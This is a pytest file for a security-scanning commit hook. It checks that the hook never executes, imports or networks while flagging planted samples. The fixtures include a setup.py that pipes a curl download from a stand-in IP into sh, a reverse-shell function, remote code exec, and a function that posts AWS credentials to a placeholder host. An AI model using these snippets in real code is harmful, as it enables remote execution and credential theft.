"""The safety promise, proved end to end: a hook never runs, imports or evaluates the code it
checks, and never talks to the network.

Each test runs the real CLI in a subprocess that first installs an audit hook (PEP 578) and
records what the promise forbids: any socket or URL request, a process other than git, a module
or code object from the checked repository, a write into it. The repository is real: a staged
change whose files leave a marker file if they are ever imported or run (`sitecustomize.py`,
`conftest.py`, `setup.py`, a `json.py` shadowing the standard library, a package `__init__.py`, a
`.pth` file, a notebook), beside risky code every hook family reports and secrets of providers
detect-secrets could verify online. Every test also asserts the findings, so none passes because
nothing was checked.
"""

from __future__ import annotations

import json
import os
import random
import shlex
import shutil
import string
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Dict, List, Optional, Sequence, Set, Tuple

import pytest

from cli_helpers import Run, run_cli
from conftest import ROOT, commit_all, environ_without_git_vars, git

# Installs the audit hook before anything else is imported, runs the CLI (or one hook's entry
# point), then writes what it saw as JSON. `python -c` puts the current folder (the checked
# repository) first on sys.path as "", where a console script puts its own folder: that entry
# goes, or the repository's json.py would stand in for the standard library's in the wrapper.
# Argument shapes, the same on Python 3.9 to 3.13: open (path, mode, flags), with mode None from
# os.open; exec (code,); subprocess.Popen (executable, args, cwd, env); os.exec and
# os.posix_spawn (path, argv, env); os.spawn (mode, path, args, env); os.rename (src, dst, ...).
# The import event carries no file name (None), so imported modules are read from sys.modules.
WRAPPER = r"""
import sys
if sys.path[0] == "":
    del sys.path[0]
import os

REPO, EVENTS, SENTINEL, HOOK = sys.argv[1:5]
ROOTS = tuple({os.path.realpath(REPO), os.path.abspath(REPO)})
NETWORK = (
    "socket.", "urllib.Request", "http.client.", "ftplib.", "smtplib.", "imaplib.", "poplib.",
    "nntplib.", "telnetlib.", "webbrowser.",
)
PROCESSES = {"subprocess.Popen": 0, "os.exec": 0, "os.posix_spawn": 0, "os.spawn": 1}
SHELLS = ("os.system", "os.startfile", "os.fork", "os.forkpty")
CHANGES = {"os.remove": 0, "os.rmdir": 0, "os.mkdir": 0, "os.chmod": 0, "os.truncate": 0,
           "os.utime": 0, "os.symlink": 1, "os.link": 1}
WRITING = os.O_WRONLY | os.O_RDWR | os.O_APPEND | os.O_CREAT | os.O_TRUNC
CODE = type(compile("", "", "exec"))
seen, busy = [], [False]


def in_repo(path):
    if isinstance(path, int) or path is None:
        return None
    full = os.path.abspath(os.fsdecode(os.fspath(path)))
    for root in ROOTS:
        if full == root or full.startswith(root + os.sep):
            return os.path.relpath(full, root).replace(os.sep, "/")
    return None


def mentions_sentinel(code):
    for const in code.co_consts:
        if isinstance(const, str) and SENTINEL in const:
            return True
        if isinstance(const, CODE) and mentions_sentinel(const):
            return True
    return False


def program(target):
    if isinstance(target, (list, tuple)):
        target = target[0] if target else ""
    return os.path.basename(os.fsdecode(os.fspath(target)))


def check(event, args):
    if event.startswith(NETWORK):
        seen.append(["network", event + " " + repr(args)[:200]])
    elif event in PROCESSES:
        where = PROCESSES[event]
        target = args[where] if args[where] is not None else args[where + 1]
        if program(target) != "git":
            seen.append(["process", event + " " + repr(args[where + 1])[:200]])
    elif event in SHELLS:
        seen.append(["process", event + " " + repr(args)[:200]])
    elif event == "exec" and isinstance(args[0], CODE):
        code = args[0]
        # generated code (dataclasses, namedtuple) is named `<string>`, not a file
        from_file = not code.co_filename.startswith("<")
        if (from_file and in_repo(code.co_filename) is not None) or mentions_sentinel(code):
            seen.append(["exec", code.co_filename])
    elif event == "open":
        path, mode, flags = args
        writes = flags & WRITING if isinstance(flags, int) else False
        if isinstance(mode, str) and any(c in mode for c in "wax+"):
            writes = True
        if writes and in_repo(path) is not None:
            seen.append(["write", in_repo(path)])
    elif event == "os.rename":
        if in_repo(args[0]) is not None or in_repo(args[1]) is not None:
            seen.append(["rename", [in_repo(args[0]), in_repo(args[1])]])
    elif event in CHANGES and in_repo(args[CHANGES[event]]) is not None:
        seen.append(["write", in_repo(args[CHANGES[event]])])


def audit(event, args):
    if busy[0]:
        return
    busy[0] = True
    try:
        check(event, args)
    except BaseException as exc:
        seen.append(["audit-hook-error", event + ": " + repr(exc)])
    finally:
        busy[0] = False


sys.addaudithook(audit)
try:
    if HOOK:
        from hooks.engine import entries
        run = getattr(entries, HOOK)
        code = run(sys.argv[5:])
    else:
        from hooks.engine.cli import main
        code = main(sys.argv[5:])
finally:
    busy[0] = True
    for name, module in list(sys.modules.items()):
        # a namespace package has no __file__, only a __path__
        for place in [getattr(module, "__file__", None), *getattr(module, "__path__", [])]:
            if in_repo(place) is not None:
                seen.append(["import", name + " from " + in_repo(place)])
    import json
    with open(EVENTS, "w") as stream:
        json.dump(seen, stream)
raise SystemExit(code)
"""

RNG = random.Random(20261126)


def generated(alphabet: str, length: int) -> str:
    return "".join(RNG.choice(alphabet) for _ in range(length))


ALNUM = string.ascii_letters + string.digits
# providers whose detect-secrets plugin has a `verify` that calls the provider's API
SLACK = "xoxb-" + generated(string.digits, 12) + "-" + generated(string.digits, 13) + "-"
SLACK += generated(ALNUM, 24)
STRIPE = "sk_live_" + generated(ALNUM, 24)
GITHUB = "ghp_" + generated(ALNUM, 36)
AWS_KEY = "AKIA" + generated(string.ascii_uppercase + "234567", 16)
AWS_SECRET = generated(ALNUM + "+/", 40)

# what every planted file runs if it is ever imported or executed: it leaves its marker
TOUCH = "import pathlib; pathlib.Path({marker!r}).touch()"
SETUP = """\
{touch}

import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s https://198.51.100.7/i.sh | sh")


setup(name="app", version="1.0", cmdclass={"install": PostInstall})
"""
# a finding of every hook family that reads Python code
RISKY = """\
{touch}

import base64
import os
import pickle
import pty
import socket
import subprocess
from pathlib import Path

import requests


def run_payload(payload):
    eval(base64.b64decode(payload))


def thumbnail(name):
    subprocess.run(f"convert {name} -resize 64x64 thumb.png", shell=True)


def restore(path):
    with open(path, "rb") as handle:
        return pickle.load(handle)


def find_user(conn, name):
    cur = conn.cursor()
    cur.execute(f"SELECT * FROM users WHERE name = '{name}'")
    return cur.fetchall()


def connect_back(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn("/bin/bash")


def update():
    exec(requests.get("https://example.com/bootstrap.py", timeout=10).text)


def sync_settings():
    creds = Path.home() / ".aws" / "credentials"
    requests.post("https://telemetry.example.com", data=creds.read_text(), timeout=5)
"""
CLIENT = """\
{touch}

import requests
import yaml


def fetch(url):
    return requests.get(url, verify=False, timeout=5)


def settings(stream):
    return yaml.load(stream)
"""


def notebook() -> str:
    """A notebook whose code cell would leave the marker, and print a token, if it were run."""
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Analysis\n"]},
        {
            "cell_type": "code",
            "execution_count": None,
            "metadata": {},
            "outputs": [],
            "source": ["{touch}\n", f'print("{GITHUB}")\n'],
        },
    ]
    document = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(document, indent=1) + "\n"


PLANTED = {
    "sitecustomize.py": "{touch}\n",
    "conftest.py": "{touch}\n\nimport pytest\n\n\n@pytest.fixture\ndef client():\n    return 1\n",
    "json.py": "{touch}\n\n\ndef loads(text):\n    return text\n",
    "typing.py": "{touch}\n\nAny = object\n",
    "app/__init__.py": "{touch}\n",
    "evil.pth": "{touch}\n",
    "setup.py": SETUP,
    "app/risky.py": RISKY,
    "app/client.py": CLIENT,
    "analysis.ipynb": notebook(),
    "app/settings.py": (
        "{touch}\n\n"
        f'SLACK_BOT_TOKEN = "{SLACK}"\n'
        f'STRIPE_SECRET_KEY = "{STRIPE}"\n'
        f'GITHUB_TOKEN = "{GITHUB}"\n'
        f'AWS_ACCESS_KEY_ID = "{AWS_KEY}"\n'
        f'AWS_SECRET_ACCESS_KEY = "{AWS_SECRET}"\n'
    ),
    "requirements.txt": "requests==2.32.3\npyyaml==6.0.2\nquantum-flask-authz-helperkit==0.3.1\n",
}
# the file --fix rewrites: its TLS and YAML calls have a safe fix
FIXED = "app/client.py"
# a finding of every hook family, and of a secret each provider can verify online
EXPECTED_IN_DIFF = {
    "DW102", "DW110", "DW201", "DW310", "DW501", "DW601", "DW606", "DW801", "DW802", "DW803",
    "DW804",
}  # fmt: skip


@dataclass(frozen=True)
class Audited:
    run: Run
    # (kind, detail): network, process, exec, import, write (a repository path), rename
    events: List[Tuple[str, Any]]

    def codes(self) -> Set[str]:
        return {f["code"] for f in json.loads(self.run.out)["findings"]}

    def violations(self, may_write: Sequence[str] = ()) -> List[Tuple[str, Any]]:
        """Every event the promise forbids. A write is allowed only to a file in `may_write`,
        or to a temporary file that is then renamed onto one."""
        renamed = {src for _, (src, dst) in self.renames() if dst in may_write}
        allowed = set(may_write) | renamed
        return [
            (kind, detail)
            for kind, detail in self.events
            if not (kind == "write" and detail in allowed)
            and not (kind == "rename" and detail[1] in may_write)
        ]

    def renames(self) -> List[Tuple[str, Any]]:
        return [(kind, detail) for kind, detail in self.events if kind == "rename"]


def audited(
    repo: Path, *args: str, hook: Optional[str] = None, commit: Optional[str] = None
) -> Audited:
    """Run the CLI (or the entry point of hook module `hook`) on `repo` under the audit hook;
    with `commit`, as the pre-commit hook of a `git commit -m COMMIT`. The JSON report goes to a
    file beside the repository: git shows a hook's stdout on its stderr."""
    events, report = repo.parent / "events.json", repo.parent / "report.json"
    command = [sys.executable, "-c", WRAPPER, str(repo), str(events), str(markers(repo))]
    command += [hook or "", "--format", "json", "--output", str(report), *args]
    if commit is not None:
        script = repo / ".git" / "hooks" / "pre-commit"
        hook_text = "#!/bin/sh\nexec " + shlex.join(command) + "\n"
        script.write_text(hook_text, encoding="utf-8")  # diffwarden: ignore[DW806] a tmp repo's
        script.chmod(0o755)
        command = ["git", "commit", "-q", "-m", commit]
    env: Dict[str, str] = environ_without_git_vars()
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(ROOT), env.get("PYTHONPATH")]))
    result = subprocess.run(command, cwd=repo, env=env, stderr=subprocess.PIPE, check=False)
    err = result.stderr.decode("utf-8")
    assert "Traceback" not in err, err
    recorded = json.loads(events.read_text(encoding="utf-8"))
    run = Run(result.returncode, report.read_text(encoding="utf-8"), err)
    return Audited(run, [(kind, detail) for kind, detail in recorded])


def markers(repo: Path) -> Path:
    return repo.parent / "markers"


def plant(repo: Path) -> List[str]:
    """Write the planted files into `repo`, each with its own marker, and stage them."""
    markers(repo).mkdir()
    for name, text in PLANTED.items():
        touch = TOUCH.format(marker=str(markers(repo) / name.replace("/", "_")))
        path = repo / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text.replace("{touch}", touch), encoding="utf-8")
    git(repo, "add", "-A")
    return sorted(PLANTED)


@pytest.fixture
def staged(repo: Path) -> List[str]:
    """A repository with one commit and the planted files staged: a commit about to be made."""
    (repo / "README.md").write_text("# app\n", encoding="utf-8")
    (repo / "pyproject.toml").write_text("[project]\nname = 'app'\n", encoding="utf-8")
    commit_all(repo, "start")
    return plant(repo)


def assert_nothing_ran(repo: Path) -> None:
    assert list(markers(repo).iterdir()) == []


# runs the planted files as Python would (a stand-in for `requests`, which opens a socket on
# import): every .py file, the .pth file through site, the notebook's code cell
RUN_PLANTED = """\
import sys
del sys.path[0]  # the repository: its json.py would stand in for the standard library's
import json, runpy, site, types
sys.modules["requests"] = types.ModuleType("requests")
site.addsitedir(".")
for name in sys.argv[1:]:
    try:
        runpy.run_path(name)
    except BaseException:
        pass  # the marker is left by the first line; what follows may need a real install
cell = json.load(open("analysis.ipynb"))["cells"][1]
exec("".join(cell["source"]), {"print": lambda *args: None})
"""


def test_the_planted_files_leave_their_markers_when_run(repo: Path, staged: List[str]) -> None:
    """The canaries are alive: an empty markers folder afterwards means nothing ran."""
    python = [name for name in staged if name.endswith(".py")]
    subprocess.run([sys.executable, "-c", RUN_PLANTED, *python], cwd=repo, check=True)
    left = {path.name for path in markers(repo).iterdir()}
    planted = {name.replace("/", "_") for name, text in PLANTED.items() if "{touch}" in text}
    assert left == planted


def test_git_commit_is_stopped_without_running_importing_or_networking(
    repo: Path, staged: List[str]
) -> None:
    result = audited(repo, *staged, commit="add the app")
    assert result.violations() == []
    assert_nothing_ran(repo)
    assert result.run.code == 1  # the commit was stopped
    assert git(repo, "rev-list", "--count", "HEAD").strip() == "1"
    assert EXPECTED_IN_DIFF <= result.codes(), result.run.out


def test_whole_files_are_checked_without_running_importing_or_networking(
    repo: Path, staged: List[str]
) -> None:
    result = audited(repo, "--scope", "file", *staged)
    assert result.violations() == []
    assert_nothing_ran(repo)
    assert EXPECTED_IN_DIFF <= result.codes(), result.run.out


def test_fix_writes_only_the_file_it_fixes(repo: Path, staged: List[str], tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(repo, copy, symlinks=True)
    before = {name: (copy / name).read_bytes() for name in staged}
    result = audited(copy, "--fix", *staged)
    assert result.violations(may_write=[FIXED]) == []
    assert_nothing_ran(copy)
    # the writes were seen: a temporary file beside the fixed one, renamed onto it
    [(_, (temporary, target))] = result.renames()
    assert target == FIXED and os.path.dirname(temporary) == os.path.dirname(FIXED)
    after = {name: (copy / name).read_bytes() for name in staged}
    assert [name for name in staged if before[name] != after[name]] == [FIXED]
    assert b"verify=False" not in after[FIXED] and b"yaml.safe_load" in after[FIXED]
    assert result.run.code == 1


def test_the_secrets_hook_never_verifies_a_key_online(repo: Path, staged: List[str]) -> None:
    result = audited(repo, "--scope", "file", *staged, hook="secrets")
    assert result.violations() == []
    assert_nothing_ran(repo)
    findings = json.loads(result.run.out)["findings"]
    assert {f["code"] for f in findings} == {"DW501"}
    providers = {f["message"].split(" `")[0] for f in findings if f["path"] == "app/settings.py"}
    assert providers == {"Slack Token", "Stripe Access Key", "GitHub Token", "AWS Access Key"}


@pytest.mark.skipif(
    sys.version_info < (3, 11),
    reason="before 3.11, runpy itself imports typing from the current folder, before any of ours",
)
def test_python_m_hooks_imports_nothing_from_the_folder_it_starts_in(
    repo: Path, staged: List[str]
) -> None:
    """`python -m` puts the current folder first on sys.path, where the repository's json.py
    and typing.py would be imported in place of the standard library's."""
    run = run_cli(repo, "--format", "json", "--scope", "file", *staged)
    assert_nothing_ran(repo)
    assert EXPECTED_IN_DIFF <= {f["code"] for f in json.loads(run.out)["findings"]}
